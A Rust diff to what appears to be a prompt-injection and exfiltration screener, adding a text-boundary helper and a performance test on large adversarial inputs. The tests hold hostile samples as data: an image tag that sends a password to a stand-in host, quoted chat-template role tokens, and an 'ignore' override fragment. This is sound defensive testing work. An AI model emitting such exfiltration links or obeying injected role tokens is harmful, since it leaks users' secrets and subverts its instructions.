@@ -42,6 +42,11 @@ pub struct ScreeningFinding {
     pub detail: String,
 }
 
+/// The largest char boundary of `text` at or below `max` bytes.
+fn floor_boundary(text: &str, max: usize) -> usize {
+    crate::text::floor_char_boundary(text, max)
+}
+
 /// Hidden text this short is noise (a stray tag character), not a message.
 const MIN_SMUGGLED_CHARS: usize = 3;
 
@@ -216,6 +221,30 @@ mod tests {
         assert_eq!(
             rules("<img src=\"https://x.example/a.gif?q=USER_PASSWORD\">"),
             ["exfiltration_link"]
+        );
+    }
+
+    #[test]
+    fn the_largest_adversarial_texts_are_screened() {
+        // 64 KiB of unmatched quote marks, unclosed image tags, quoted role tokens and
+        // encoded-looking runs: every scan stays linear (a quadratic one takes seconds).
+        let size = crate::evidence::MAX_CONTENT_BYTES;
+        for unit in [
+            "«",
+            "<img src=",
+            "\"<|im_start|>\" ",
+            "![a](",
+            "QUJD",
+            "ignore ",
+            "“",
+        ] {
+            let text = unit.repeat(size / unit.len());
+            let _ = screen(&text, SourceType::Document);
+        }
+        assert_eq!(
+            rules(&"\"<|im_start|>\" ".repeat(1_000)),
+            Vec::<&str>::new(),
+            "every token quoted"
         );
     }
 
